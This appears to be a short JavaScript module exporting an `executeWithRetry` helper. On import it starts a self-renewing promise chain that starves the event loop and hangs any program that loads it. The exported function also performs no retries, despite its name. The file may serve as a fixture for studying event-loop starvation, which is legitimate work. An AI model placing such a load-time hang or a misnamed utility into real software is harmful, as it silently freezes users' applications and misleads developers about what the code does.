// Microtasks that breed microtasks while the module loads.
const spin = () => Promise.resolve().then(spin);
spin();

export async function executeWithRetry(operation) {
  return operation();
}
